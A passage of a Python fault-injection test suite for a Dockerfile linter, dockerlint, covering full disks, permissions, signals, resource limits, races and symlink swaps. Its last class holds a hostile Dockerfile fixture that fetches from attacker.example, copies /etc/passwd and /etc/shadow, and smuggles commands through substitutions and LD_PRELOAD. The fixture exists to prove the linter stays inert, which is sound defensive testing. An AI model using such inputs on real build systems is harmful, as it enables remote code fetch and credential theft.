#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What dockerlint does when the machine fails it, with faults that are real: full disks, missing permissions,
exhausted limits, signals at each system call, other programs at the same file.

    tests/faults/faults.py PROGRAM [TEST…]

Whatever happens, a file is what it was or what it was to become, no temporary file stays, and the exit status is 2
unless the work was done. Some tests need root, strace, or a file system that can be mounted; where they cannot run
they are skipped and say why. The exit status is 77 when all were.
"""

import contextlib
import fcntl
import functools
import os
import random
import re
import resource
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest

OLD = b"""# what git needs
FROM example/debian:12
RUN --mount=type=cache,target=/var/cache/apt apt-get install -y git
"""
NEW = OLD.replace(b"/apt apt", b"/apt,sharing=locked apt")
MANY = b"FROM example/debian:12\n" + b"RUN --mount=type=cache,target=/var/cache/apt apt-get update\n" * 3000
CHANGED = "it changed while dockerlint was reading it; nothing written"
FIXED = "fixed 1 finding in 1 file, nothing left\n"
NOBODY = 65534

PROGRAM = ""  # set by main()


def needs_root(test):
    return unittest.skipUnless(os.geteuid() == 0, "only root may do that")(test)


def needs_strace(test):
    works = shutil.which("strace") and subprocess.run(["strace", "-qq", "-o", "/dev/null", "true"]).returncode == 0
    return unittest.skipUnless(works, "strace is not installed or may not trace")(test)


def needs_plain_program(test):
    @functools.wraps(test)
    def checked(self):
        with open(PROGRAM, "rb") as file:
            if re.search(rb"__[at]san_init", file.read()):
                self.skipTest("the sanitizers need more from the system than the program does")
        test(self)

    return checked


class Result:
    def __init__(self, process, err):
        self.status, self.err = process.returncode, err.decode()


def dockerlint(*arguments, **options):
    """Runs the program to its end. `limits` are those of the resource module; the rest is Popen's."""
    return finish(start(*arguments, **options))


def start(*arguments, limits=None, before=(), **options):
    def limit():
        for what, value in (limits or {}).items():
            resource.setrlimit(what, (value, value))

    options.setdefault("stdout", subprocess.DEVNULL)
    options.setdefault("stderr", subprocess.PIPE)
    return subprocess.Popen([*before, PROGRAM, *map(str, arguments)], stdin=subprocess.DEVNULL,
                            preexec_fn=limit if limits else None, **options)


def finish(process):
    err = process.communicate(timeout=120)[1]
    return Result(process, err or b"")


class System:
    """One system call of a run: its name and how many of that name came before it."""

    def __init__(self, name, count, line):
        self.name, self.count, self.line = name, count, line

    def __str__(self):
        return f"{self.name} no. {self.count}"

    def inject(self, what):
        return ["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject={self.name}:{what}:when={self.count}"]


class Folder:
    def __init__(self, path):
        self.path = path
        os.chmod(path, 0o755)

    def __call__(self, name):
        return os.path.join(self.path, name)

    def write(self, name="Dockerfile", content=OLD, mode=0o644):
        path = self(name)
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        with open(path, "wb") as file:
            file.write(content)
        os.chmod(path, mode)
        return path

    def read(self, name="Dockerfile"):
        with open(self(name), "rb") as file:
            return file.read()

    def litter(self):
        return [os.path.join(top, name) for top, _, names in os.walk(self.path) for name in names
                if name.startswith(".dockerlint-")]


class Fault(unittest.TestCase):
    def setUp(self):
        path = tempfile.mkdtemp(prefix="dockerlint-faults-")
        self.addCleanup(shutil.rmtree, path, ignore_errors=True)
        self.folder = Folder(path)

    def mount(self, options):
        """A file system of our own, so that it may be full."""
        if os.geteuid() != 0:
            self.skipTest("only root may mount")
        place = self.folder("mounted")
        os.mkdir(place)
        if subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", place], stderr=subprocess.DEVNULL).returncode:
            self.skipTest("a tmpfs cannot be mounted here")
        self.addCleanup(subprocess.run, ["umount", "-l", place])
        return Folder(place)

    def assert_whole(self, folder, name="Dockerfile", message=None):
        self.assertIn(folder.read(name), (OLD, NEW), message)

    def assert_refused(self, result, message, folder=None):
        """Nothing was written, and `message` says why."""
        folder = folder or self.folder
        self.assertIn(message, result.err)
        self.assertEqual(result.status, 2)
        self.assertEqual(folder.read(), OLD)
        self.assertEqual(folder.litter(), [])

    def system_calls(self):
        """The calls of a run that fixes one file, from the first that has to do with the file."""
        calls = self.calls_of("--fix", self.folder.write(), about="Dockerfile")
        self.assertEqual(self.folder.read(), NEW)
        self.assertIn("renameat", [call.name for call in calls])
        return calls

    def calls_of(self, *arguments, about, **options):
        with tempfile.NamedTemporaryFile(mode="r", encoding="utf-8", errors="replace") as log:
            finish(start(*arguments, before=["strace", "-f", "-qq", "-o", log.name], **options))
            counts, calls, seen = {}, [], False
            for line in log:
                match = re.match(r"\d+ +(\w+)\(", line)
                if not match or match[1] == "exit_group":
                    continue
                name = match[1]
                counts[name] = counts.get(name, 0) + 1
                seen = seen or about in line and name != "execve"
                if seen:
                    calls.append(System(name, counts[name], line))
        return calls


class FullDisk(Fault):
    def test_no_space_for_the_new_file(self):
        """From no page to all that it takes."""
        comments = b"# padding\n" * 3000
        old, new = OLD + comments, NEW + comments
        disk = self.mount("size=128k")
        for filler in range(112, 8, -4):
            path = disk.write(content=old)
            try:
                disk.write("filler", b"x" * filler * 1024)
            except OSError:
                continue
            result = dockerlint("--fix", path)
            if result.status == 0:
                self.assertEqual(disk.read(), new)
                break
            self.assertIn("cannot write " + path + ": No space left on device", result.err)
            self.assertEqual((result.status, disk.read(), disk.litter()), (2, old, []))
        else:
            self.fail("there was never space")

    def test_no_inode_for_the_new_file(self):
        disk = self.mount("nr_inodes=2")
        path = disk.write()
        self.assert_refused(dockerlint("--fix", path), "No space left on device", disk)

    def test_limit_of_file_size(self):
        path = self.folder.write()
        self.assert_refused(dockerlint("--fix", path, limits={resource.RLIMIT_FSIZE: 20}), "File too large")

    def test_the_report_does_not_fit(self):
        disk = self.mount("size=4k")
        result = dockerlint("--output", disk("report"), self.folder.write("many", MANY))
        self.assertEqual((result.status, result.err.count("No space left on device")), (2, 1))


class Permissions(Fault):
    def test_read_only_file(self):
        path = self.folder.write(mode=0o444)
        self.assert_refused(dockerlint("--fix", path), "cannot write " + path + ": it is read-only")

    def test_read_only_file_system(self):
        disk = self.mount("size=64k")
        path = disk.write()
        subprocess.run(["mount", "-o", "remount,ro", disk.path], check=True)
        self.assert_refused(dockerlint("--fix", path), "cannot write " + path + ": it is read-only", disk)

    @needs_root
    def test_directory_of_another(self):
        path = self.folder.write(mode=0o666)
        self.assert_refused(dockerlint("--fix", path, user=NOBODY), "no temporary file beside it: Permission denied")

    @needs_root
    def test_file_of_another(self):
        path = self.folder.write()
        os.chmod(self.folder.path, 0o777)
        self.assert_refused(dockerlint("--fix", path, user=NOBODY), "it is read-only")

    @needs_root
    def test_unreadable(self):
        path = self.folder.write(mode=0o600)
        self.assert_refused(dockerlint("--fix", path, user=NOBODY), "cannot read " + path + ": Permission denied")
        os.chmod(self.folder.path, 0o711)
        result = dockerlint(self.folder.path, user=NOBODY)
        self.assertEqual(result.status, 2)
        self.assertIn("cannot search " + self.folder.path + "/: Permission denied", result.err)

    @needs_root
    def test_unreadable_parts_of_a_project(self):
        """A compose file, a Dockerfile and a folder are said with their place; what can be read is linted."""
        os.chmod(self.folder.path, 0o755)
        self.folder.write(mode=0o644)
        self.folder.write("Dockerfile.mine", mode=0o600)
        self.folder.write("docker-compose.dev.yml", b"services:\n  a:\n    build: .\n", mode=0o600)
        self.folder.write("compose.yaml", b"services:\n  a:\n    build: .\n  b:\n    build: {dockerfile: Dockerfile.mine}\n",
                          mode=0o644)
        os.mkdir(self.folder("locked"), 0o700)
        result = dockerlint("--format", "concise", self.folder.path, user=NOBODY)
        self.assertEqual(result.status, 2)
        self.assertIn("cannot search " + self.folder("locked") + "/: Permission denied", result.err)
        self.assertIn(self.folder("docker-compose.dev.yml") + ": cannot be read: Permission denied", result.err)
        self.assertIn(self.folder("compose.yaml") + ":5:25: the Dockerfile " + self.folder("Dockerfile.mine")
                      + " of 'b' cannot be read", result.err)
        self.assertRegex(result.err, r"\d findings? in 1 ")
        os.rmdir(self.folder("locked"))
        os.unlink(self.folder("Dockerfile.mine"))
        os.unlink(self.folder("compose.yaml"))
        self.assertEqual(dockerlint(self.folder.path, user=NOBODY).status, 2)

    @needs_root
    def test_directory_that_cannot_be_listed(self):
        os.chmod(self.folder.path, 0o733)
        path = self.folder.write(mode=0o666)
        self.assertEqual(dockerlint("--fix", path, user=NOBODY).status, 0)
        self.assertEqual(self.folder.read(), NEW)

    def test_immutable(self):
        path = self.folder.write()
        if subprocess.run(["chattr", "+i", path], stderr=subprocess.DEVNULL).returncode != 0:
            self.skipTest("this file system or user has no chattr +i")
        self.addCleanup(subprocess.run, ["chattr", "-i", path])
        self.assert_refused(dockerlint("--fix", path), "cannot write " + path + ": ")


class WhatStays(Fault):
    @needs_root
    def test_owner_and_mode(self):
        path = self.folder.write(mode=0o640)
        os.chown(path, 1234, 2345)
        self.assertEqual(dockerlint("--fix", path).status, 0)
        status = os.stat(path)
        self.assertEqual((status.st_uid, status.st_gid, stat.S_IMODE(status.st_mode)), (1234, 2345, 0o640))

    def test_access_control_list(self):
        # Without it, the group would get what the mask says: rw.
        entries = [(1, 6, -1), (2, 4, 4242), (4, 0, -1), (16, 6, -1), (32, 0, -1)]  # user, a user, group, mask, other
        acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
        path = self.folder.write()
        try:
            os.setxattr(path, "system.posix_acl_access", acl)
        except OSError as error:
            self.skipTest(f"no access control lists here: {error}")
        self.assertEqual(dockerlint("--fix", path).status, 0)
        self.assertEqual((self.folder.read(), os.getxattr(path, "system.posix_acl_access")), (NEW, acl))

    def test_extended_attributes(self):
        path = self.folder.write()
        try:
            os.setxattr(path, "user.origin", b"here")
        except OSError as error:
            self.skipTest(f"no extended attributes here: {error}")
        self.assertEqual(dockerlint("--fix", path).status, 0)
        self.assertEqual((self.folder.read(), os.getxattr(path, "user.origin")), (NEW, b"here"))

    def test_a_second_hard_link_keeps_the_old_text(self):
        path = self.folder.write()
        os.link(path, self.folder("other"))
        self.assertEqual(dockerlint("--fix", path).status, 0)
        self.assertEqual((self.folder.read(), self.folder.read("other")), (NEW, OLD))


class Killed(Fault):
    @needs_strace
    def test_at_every_system_call(self):
        left = []
        for call in self.system_calls():
            path = self.folder.write()
            result = finish(start("--fix", path, before=call.inject("signal=SIGKILL")))
            self.assertEqual(result.status, -signal.SIGKILL, call)
            self.assert_whole(self.folder, message=str(call))
            for name in self.folder.litter():
                left.append(call.name)
                os.unlink(name)
        # A file is named a moment before it takes its place; nobody can clean up behind SIGKILL.
        self.assertLessEqual(set(left), {"linkat", "renameat"})

    @needs_strace
    def test_politely_at_every_system_call(self):
        for call in self.system_calls():
            for what in (signal.SIGTERM, signal.SIGINT):
                path = self.folder.write()
                result = finish(start("--fix", path, before=call.inject("signal=" + what.name)))
                self.assertEqual(result.status, -what, call)
                self.assert_whole(self.folder, message=str(call))
                self.assertEqual(self.folder.litter(), [], call)

    @needs_strace
    def test_politely_where_temporary_files_have_names(self):
        """As on a network file system."""
        nameless = next(call for call in self.system_calls() if "O_TMPFILE" in call.line)
        for what in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
            path = self.folder.write()
            before = nameless.inject("error=EOPNOTSUPP") + ["-e", "inject=fsync:signal=" + what.name]
            self.assertEqual(finish(start("--fix", path, before=before)).status, -what)
            self.assertEqual((self.folder.read(), self.folder.litter()), (OLD, []))

    def test_at_any_moment(self):
        names = [f"Dockerfile.{n}" for n in range(100)]
        dice = random.Random(1)
        for what in (signal.SIGKILL, signal.SIGTERM):
            for _ in range(25):
                for name in names:
                    self.folder.write(name)
                process = start("--fix", "--jobs", "4", self.folder.path)
                time.sleep(dice.uniform(0, 0.08))
                process.send_signal(what)
                finish(process)
                for name in names:
                    self.assert_whole(self.folder, name)
                if what == signal.SIGTERM:
                    self.assertEqual(self.folder.litter(), [])
                for name in self.folder.litter():
                    os.unlink(name)
        self.assertEqual(dockerlint("--fix", self.folder.path).status, 0)
        self.assertEqual({self.folder.read(name) for name in names}, {NEW})


class SystemCallsThatFail(Fault):
    @needs_plain_program
    @needs_strace
    def test_each_of_them(self):
        for call in self.system_calls():
            for error in ("EIO", "ENOSPC", "ENOMEM", "EMFILE", "EACCES"):
                if call.name in ("write", "munmap", "close", "brk", "futex"):
                    # What is written to standard error; what cannot fail so that anything is lost; what says that it
                    # has failed by the old end of the heap, and with any errno seems to have given all of memory; and
                    # what never fails so: glibc ends the program if it does. Threads come to it when they must wait.
                    continue
                with self.subTest(call=str(call), error=error):
                    path = self.folder.write()
                    result = finish(start("--fix", path, before=call.inject("error=" + error)))
                    self.assertIn(result.status, (0, 1, 2), result.err)
                    self.assertEqual(self.folder.litter(), [])
                    self.assert_whole(self.folder)
                    if result.status == 0:
                        self.assertEqual(self.folder.read(), NEW, call.line)


class EveryWriter(Fault):
    """The other ways to have files written: all that is true of --fix and one file is true of them."""

    LOCKED = b"FROM example/debian:12\nRUN --mount=type=cache,target=/root/.npm,sharing=locked npm ci\n"
    SHARED = LOCKED.replace(b"locked", b"shared")
    COMPOSE = (b"services:\n  one:\n    build:\n      dockerfile_inline: |\n"
               + b"".join(b"        " + line for line in OLD.splitlines(keepends=True)))
    WRITING = {"openat", "write", "linkat", "renameat", "unlinkat", "fchmod", "fchown", "fsync", "mkdir", "flock"}

    # Arguments, files as they are, what may become of them (None: there may be no such file).
    @staticmethod
    def jobs():
        locked, shared, compose = EveryWriter.LOCKED, EveryWriter.SHARED, EveryWriter.COMPOSE
        groups = {"api/Dockerfile": locked, "web/Dockerfile": locked}
        return {
            "groups": (["--fix", "--no-config", "--select", "cache/needless-lock", "."], groups,
                       {"api/Dockerfile": shared, "web/Dockerfile": shared}),
            "compose": (["--fix", "compose.yaml"], {"compose.yaml": compose},
                        {"compose.yaml": compose.replace(b"/apt apt", b"/apt,sharing=locked apt")}),
            "ignores": (["--add-ignores", "Dockerfile"], {"Dockerfile": OLD}, {"Dockerfile": None}),
            "baseline": (["--write-baseline", "--baseline", "known.json", "Dockerfile"], {"Dockerfile": OLD},
                         {"known.json": None}),
            "baseline again": (["--write-baseline", "--baseline", "known.json", "Dockerfile"],
                               {"Dockerfile": OLD, "known.json": b'{"version": 1, "findings": []}\n'},
                               {"known.json": None}),
            "init": (["init", "--yes", "."], {"Dockerfile": OLD, ".gitlab-ci.yml": b"stages: [test]\n"},
                     {".dockerlint.toml": None, ".pre-commit-config.yaml": None, ".gitlab-ci.yml": None}),
        }

    def setUp(self):
        super().setUp()
        self.place = Folder(self.folder.path)

    def prepare(self, files):
        for entry in os.listdir(self.place.path):
            path = self.place(entry)
            shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
        for name, content in files.items():
            os.makedirs(os.path.dirname(self.place(name)), exist_ok=True)
            self.place.write(name, content)

    def state(self, names):
        return {name: self.place.read(name) if os.path.exists(self.place(name)) else None for name in names}

    def each_job(self):
        """Name, arguments, files before, and what they have become where nothing failed."""
        for name, (arguments, files, after) in self.jobs().items():
            self.prepare(files)
            result = dockerlint(*arguments, cwd=self.place.path)
            self.assertIn(result.status, (0, 1), result.err)
            done = self.state([*files, *after])
            for file, wanted in after.items():
                self.assertIsNotNone(done[file], result.err)
                self.assertIn(wanted, (None, done[file]))
                self.assertNotEqual(done[file], files.get(file))
            yield name, arguments, files, done

    def calls(self, arguments, files):
        self.prepare(files)
        calls = self.calls_of(*arguments, about="Dockerfile", cwd=self.place.path)
        return [call for call in calls if call.name in self.WRITING and "O_RDONLY" not in call.line]

    def assert_each_whole(self, files, done, message):
        now = self.state(done)
        for name, bytes_now in now.items():
            self.assertIn(bytes_now, (files.get(name), done[name]), f"{name}: {message}")
        return now

    @needs_strace
    def test_killed(self):
        for _, arguments, files, done in self.each_job():
            for call in self.calls(arguments, files):
                for what in (signal.SIGKILL, signal.SIGTERM):
                    self.prepare(files)
                    result = finish(start(*arguments, before=call.inject("signal=" + what.name), cwd=self.place.path))
                    self.assertEqual(result.status, -what, call.line)
                    self.assert_each_whole(files, done, call.line)
                    if what == signal.SIGTERM:
                        self.assertEqual(self.place.litter(), [], call.line)

    @needs_plain_program
    @needs_strace
    def test_each_call_fails(self):
        for name, arguments, files, done in self.each_job():
            for call in self.calls(arguments, files):
                for error in ("EIO", "ENOSPC", "EACCES"):
                    self.prepare(files)
                    result = finish(start(*arguments, before=call.inject("error=" + error), cwd=self.place.path))
                    message = f"{error} from {call.line}{result.err}"
                    now = self.assert_each_whole(files, done, message)
                    self.assertIn(result.status, (0, 1, 2), message)
                    self.assertEqual(self.place.litter(), [], message)
                    if result.status != 2 and not re.search(r"write\([12],", call.line):
                        self.assertEqual(now, done, message)
                    if name == "groups":  # all or none
                        self.assertEqual(len(set(now.values())), 1, message)

    def test_full_disk(self):
        self.place = self.mount("size=64k")
        for _, arguments, files, done in self.each_job():
            self.prepare(files)
            with contextlib.suppress(OSError), open(self.place("filler"), "wb", buffering=0) as filler:
                while True:
                    filler.write(b"x" * 1024)
            result = dockerlint(*arguments, cwd=self.place.path)
            self.assertIn("No space left on device", result.err)
            self.assertEqual((result.status, self.place.litter()), (2, []))
            self.assertEqual(self.state(done), {name: files.get(name) for name in done})

    @needs_root
    def test_read_only_directory(self):
        for _, arguments, files, done in self.each_job():
            self.prepare(files)
            for top, _, names in os.walk(self.place.path):
                os.chmod(top, 0o555)
                for name in names:
                    os.chmod(os.path.join(top, name), 0o666)
            result = dockerlint(*arguments, cwd=self.place.path, user=NOBODY)
            os.chmod(self.place.path, 0o755)
            self.assertIn("Permission denied", result.err)
            self.assertEqual(result.status, 2)
            self.assertEqual(self.state(done), {name: files.get(name) for name in done})

    @needs_plain_program
    def test_file_descriptors(self):
        for name, arguments, files, done in self.each_job():
            statuses = set()
            for limit in range(4, 16):
                self.prepare(files)
                result = dockerlint(*arguments, cwd=self.place.path, limits={resource.RLIMIT_NOFILE: limit})
                statuses.add(result.status == 2)
                now = self.assert_each_whole(files, done, result.err)
                if result.status != 2:
                    self.assertEqual(now, done, f"{name} with {limit}: {result.err}")
                else:
                    self.assertIn("Too many open files", result.err)
                if name == "groups":
                    self.assertEqual(len(set(now.values())), 1)
            self.assertEqual(statuses, {True, False}, name)

    @needs_plain_program
    def test_memory(self):
        mib = 1 << 20
        least = next(limit for limit in range(mib, 200 * mib, mib)
                     if dockerlint("--version", limits={resource.RLIMIT_AS: limit}).status == 0)
        for name, arguments, files, done in self.each_job():
            for limit in range(least, least + 3 * mib, mib // 8):
                self.prepare(files)
                result = dockerlint(*arguments, cwd=self.place.path, limits={resource.RLIMIT_AS: limit})
                message = f"{name} with {limit}: {result.err}"
                self.assertIn(result.status, (0, 1, 2), message)
                now = self.assert_each_whole(files, done, message)
                self.assertEqual(self.place.litter(), [], message)
                if result.status == 2:
                    self.assertIn("out of memory", result.err, message)
                else:
                    self.assertEqual(now, done, message)

    def test_two_at_once(self):
        for name, arguments, files, done in self.each_job():
            for _ in range(15):
                self.prepare(files)
                results = [finish(process) for process in [start(*arguments, cwd=self.place.path) for _ in range(3)]]
                for result in results:
                    self.assertIn(result.status, (0, 1, 2), result.err)
                    if result.status == 2:  # new files that another has made in the meantime, ignores that it has added
                        self.assertRegex(result.err, "File exists|it changed while")
                self.assertEqual(self.state(done), done, name)
                self.assertEqual(self.place.litter(), [])

    @needs_strace
    def test_one_of_a_group_cannot_be_written(self):
        """What was replaced already is taken back, or it is said that it could not be."""
        arguments, files, after = self.jobs()["groups"]
        calls = [call for call in self.calls(arguments, files) if call.name == "renameat"]
        self.prepare(files)
        result = finish(start(*arguments, before=calls[1].inject("error=EIO"), cwd=self.place.path))
        self.assertEqual((result.status, self.state(after)), (2, files), result.err)
        self.assertIn("together with those of", result.err)
        # The disk fails for good: that is said.
        self.prepare(files)
        before = ["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject=renameat:error=EIO:when={calls[1].count}+"]
        result = finish(start(*arguments, before=before, cwd=self.place.path))
        self.assertEqual(result.status, 2)
        self.assertIn("but stay: Input/output error", result.err)
        self.assert_each_whole(files, after, result.err)

    def test_links_in_the_place_of_new_files(self):
        outside = Folder(tempfile.mkdtemp(prefix="dockerlint-faults-"))
        self.addCleanup(shutil.rmtree, outside.path)
        for name, (arguments, files, after) in self.jobs().items():
            for target in ("victim", "nothing"):
                self.prepare(files)
                outside.write("victim", b"mine\n")
                for file in after:
                    if file not in files:
                        os.symlink(outside(target), self.place(file))
                dockerlint(*arguments, cwd=self.place.path)
                self.assertEqual((outside.read("victim"), os.listdir(outside.path)), (b"mine\n", ["victim"]), name)


class ChangedMeanwhile(Fault):
    """Another program comes between reading and writing."""

    def start_slow(self, path):
        """A fixer that has read the file, has written the new one, and pauses for a while before that is on disk."""
        process = start("--fix", path, before=["strace", "-f", "-qq", "-o", "/dev/null", "-e",
                                               "inject=fsync:delay_enter=2000000"])
        while process.poll() is None and not self.has_temporary(process.pid):
            time.sleep(0.01)
        return process

    def has_temporary(self, tracer):
        """Whether a child of strace has a new file open, with a name or without."""
        with contextlib.suppress(OSError):
            with open(f"/proc/{tracer}/task/{tracer}/children", encoding="ascii") as file:
                children = file.read().split()
            for child in children:
                for fd in os.listdir(f"/proc/{child}/fd"):
                    link = os.readlink(f"/proc/{child}/fd/{fd}")
                    if link.startswith(self.folder.path) and ("/#" in link or ".dockerlint-" in link):
                        return True
        return False

    def fix_while(self, other):
        path = self.folder.write()
        process = self.start_slow(path)
        other(path)
        return finish(process)

    @needs_strace
    def test_other_bytes(self):
        def append(path):
            with open(path, "ab") as file:
                file.write(b"RUN mine\n")

        result = self.fix_while(append)
        self.assertEqual(result.status, 2)
        self.assertIn(CHANGED, result.err)
        self.assertEqual((self.folder.read(), self.folder.litter()), (OLD + b"RUN mine\n", []))

    @needs_strace
    def test_another_file_of_the_same_bytes(self):
        self.assert_refused(self.fix_while(lambda path: os.rename(self.folder.write("mine"), path)), CHANGED)

    @needs_strace
    def test_a_symbolic_link(self):
        def swap(path):
            os.unlink(path)
            os.symlink(self.folder.write("victim"), path)

        self.assert_refused(self.fix_while(swap), CHANGED)
        self.assertTrue(os.path.islink(self.folder("Dockerfile")))

    @needs_strace
    def test_removed(self):
        result = self.fix_while(os.unlink)
        self.assertIn(CHANGED, result.err)
        self.assertEqual((result.status, os.listdir(self.folder.path)), (2, []))

    @needs_strace
    def test_its_directory_is_now_a_link(self):
        """The file that was read is fixed where it is; what is in its place now is not touched."""
        os.mkdir(self.folder("victim"))
        self.folder.write("victim/Dockerfile")
        os.mkdir(self.folder("given"))
        path = self.folder.write("given/Dockerfile")
        process = self.start_slow(path)
        os.rename(self.folder("given"), self.folder("moved"))
        os.symlink("victim", self.folder("given"))
        self.assertEqual(finish(process).status, 0)
        self.assertEqual((self.folder.read("moved/Dockerfile"), self.folder.read("victim/Dockerfile")), (NEW, OLD))
        self.assertEqual(self.folder.litter(), [])

    def test_swapped_again_and_again(self):
        """A directory is a link and a directory by turns: neither file gets what belongs to the other."""
        texts = {name: b"# " + name.encode() + b"\n" + OLD for name in ("a", "b")}
        for name, text in texts.items():
            os.mkdir(self.folder(name))
            self.folder.write(name + "/Dockerfile", text)
        os.symlink("a", self.folder("given"))
        stop = threading.Event()

        def swap():
            turn = 0
            while not stop.is_set():
                os.symlink("ab"[turn := 1 - turn], self.folder("next"))
                os.rename(self.folder("next"), self.folder("given"))

        swapper = threading.Thread(target=swap)
        swapper.start()
        try:
            for _ in range(60):
                for name, text in texts.items():
                    self.folder.write(name + "/Dockerfile", text)
                result = dockerlint("--fix", self.folder("given/Dockerfile"))
                self.assertTrue(result.status == 0 or result.status == 2 and CHANGED in result.err, result.err)
                for name, text in texts.items():
                    self.assertIn(self.folder.read(name + "/Dockerfile"), (text, text.replace(OLD, NEW)))
        finally:
            stop.set()
            swapper.join()
        self.assertEqual(self.folder.litter(), [])


class TwoAtOnce(Fault):
    def test_two_fixers(self):
        for _ in range(40):
            path = self.folder.write()
            results = [finish(process) for process in [start("--fix", path) for _ in range(4)]]
            self.assertEqual([result.status for result in results], [0] * 4, [result.err for result in results])
            self.assertEqual((self.folder.read(), self.folder.litter()), (NEW, []))

    def test_two_fixers_with_different_aims(self):
        """Each does its own or says that it did not: what the first has done is never undone."""
        self.folder.write()
        both = OLD + b"RUN --mount=type=cache,target=/var/lib/apt apt-get update\n"
        for _ in range(40):
            path = self.folder.write(content=both)
            one = start("--fix", "--fix-only", path)
            none = start("--fix", "--fix-only", "--fix-select", "syntax", path)
            self.assertEqual([finish(one).status, finish(none).status], [0, 0])
            self.assertEqual(self.folder.read().count(b"sharing=locked"), 2)

    def test_a_lock_is_not_waited_for_without_end(self):
        path = self.folder.write()
        with open(path, "rb") as file:
            fcntl.flock(file, fcntl.LOCK_EX)
            self.assertEqual(dockerlint("--fix", path).status, 0)
        self.assertEqual(self.folder.read(), NEW)


class ClosedPipes(Fault):
    def test_nobody_reads_the_report(self):
        many = self.folder.write("many", MANY)
        reader, writer = os.pipe()
        os.close(reader)
        result = dockerlint(many, stdout=writer)
        os.close(writer)
        self.assertEqual((result.status, result.err), (2, ""))

    def test_the_files_are_fixed_all_the_same(self):
        names = [f"Dockerfile.{n}" for n in range(20)]
        for name in names:
            self.folder.write(name, OLD + b"COPY --from=9 a b\n" * 1000)
        reader, writer = os.pipe()
        os.close(reader)
        result = dockerlint("--fix", self.folder.path, stdout=writer)
        os.close(writer)
        self.assertEqual(result.status, 2)
        for name in names:
            self.assertEqual(self.folder.read(name), NEW + b"COPY --from=9 a b\n" * 1000)

    def test_no_standard_streams_at_all(self):
        for closed in ([0], [1], [2], [0, 1, 2]):
            path = self.folder.write()
            words = " ".join(f"{n}>&-" for n in closed)
            status = subprocess.run(["sh", "-c", f'"$0" --fix "$1" {words}', PROGRAM, path],
                                    stderr=subprocess.DEVNULL).returncode
            self.assertEqual((status, self.folder.read()), (0, NEW))  # there was nothing to report


class Exhausted(Fault):
    @needs_plain_program
    def test_file_descriptors(self):
        messages = set()
        for limit in range(4, 12):
            path = self.folder.write()
            result = dockerlint("--fix", path, limits={resource.RLIMIT_NOFILE: limit})
            if result.status == 0:
                self.assertEqual((self.folder.read(), result.err), (NEW, FIXED))
                continue
            self.assert_refused(result, "Too many open files")
            messages.add(result.err.splitlines()[-2])
        self.assertTrue(messages, "it takes no descriptor")

    @needs_plain_program
    def test_file_descriptors_while_searching(self):
        deep = self.folder.path
        for _ in range(50):
            deep = os.path.join(deep, "d")
            os.mkdir(deep)
        self.folder.write(os.path.relpath(deep, self.folder.path) + "/Dockerfile")
        result = dockerlint("--fix", self.folder.path, limits={resource.RLIMIT_NOFILE: 10})
        self.assertEqual((result.status, result.err), (0, FIXED))

    @needs_plain_program
    def test_memory(self):
        comments = b"# " + b"x" * 100 + b"\n"
        old, new = OLD + comments * 10000, NEW + comments * 10000
        mib = 1 << 20
        least = next(limit for limit in range(mib, 200 * mib, mib)
                     if dockerlint("--version", limits={resource.RLIMIT_AS: limit}).status == 0)
        outcomes = set()
        for limit in range(least, least + 24 * mib, mib // 2):
            path = self.folder.write(content=old)
            result = dockerlint("--fix", path, limits={resource.RLIMIT_AS: limit})
            self.assertIn(result.status, (0, 2), result.err)
            self.assertEqual(self.folder.read(), new if result.status == 0 else old)
            if result.status == 2:
                self.assertIn("out of memory", result.err)
            self.assertEqual(self.folder.litter(), [])
            outcomes.add(result.status)
        self.assertEqual(outcomes, {0, 2})

    @needs_root
    def test_threads(self):
        names = [f"Dockerfile.{n}" for n in range(20)]
        for name in names:
            self.folder.write(name)
            os.chown(self.folder(name), NOBODY, NOBODY)
        os.chmod(self.folder.path, 0o777)
        result = dockerlint("--fix", "--jobs", "8", self.folder.path, user=NOBODY, limits={resource.RLIMIT_NPROC: 0})
        self.assertEqual((result.status, result.err), (0, "fixed 20 findings in 20 files, nothing left\n"))

    @needs_plain_program
    def test_stack(self):
        deep = b"FROM a\nRUN " + b"(" * 20000 + b"\nRUN " + b"$(" * 20000 + b"\nRUN " + b'"${a:-' * 10000 + b"\n"
        path = self.folder.write(content=deep)
        result = dockerlint(path, limits={resource.RLIMIT_STACK: 1024 * 1024})
        self.assertIn(result.status, (0, 1), result.err)


class Hostile(Fault):
    """What a Dockerfile says is read, and nothing else happens."""

    DOCKERFILE = b"""# syntax=attacker.example/frontend:1
# escape=\\
# dockerlint ignore-file=../../etc/passwd
ARG BASE=`touch owned`
FROM ${BASE:-$(touch owned)} AS ../../x
COPY ../../../etc/passwd /dev/stdin /etc/shadow /
ADD http://attacker.example/x git://attacker.example/y.git /
ENV LD_PRELOAD=/tmp/x.so PATH=/tmp
SHELL ["/bin/sh", "-c", "touch owned"]
RUN --mount=type=bind,source=/etc,target=/etc --mount=type=secret,id=../../etc/shadow \\
    --mount=type=cache,target=/var/cache/apt touch owned; . /etc/profile; cat <<EOF >/tmp/owned
$(touch owned)
EOF
ONBUILD RUN touch owned
"""

    @needs_strace
    def test_no_process_no_network_no_other_file(self):
        log = self.folder("log")
        path = self.folder.write(content=self.DOCKERFILE)
        result = finish(start("--fix", "--unsafe-fixes", path, before=[
            "strace", "-f", "-qq", "-o", log, "-e", "trace=%process,%network,%file"]))
        self.assertIn(result.status, (0, 1), result.err)
        with open(log, encoding="utf-8", errors="replace") as file:
            lines = [line.split(" ", 1)[1].lstrip() for line in file]
        calls = "\n".join(lines)
        self.assertEqual(len(re.findall(r"^execve\(", calls, re.M)), 1)
        self.assertEqual(re.findall(r"^(?:fork|vfork|socket|connect|bind)\(.*", calls, re.M), [])
        written = [line for line in lines if re.search(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC", line)]
        self.assertEqual([line for line in written if "O_TMPFILE" not in line], [])
        asked = re.compile(r"/etc/ld\.so\.|/lib|/usr/lib|/proc/self/|/sys/devices/system/cpu|" + re.escape(path)
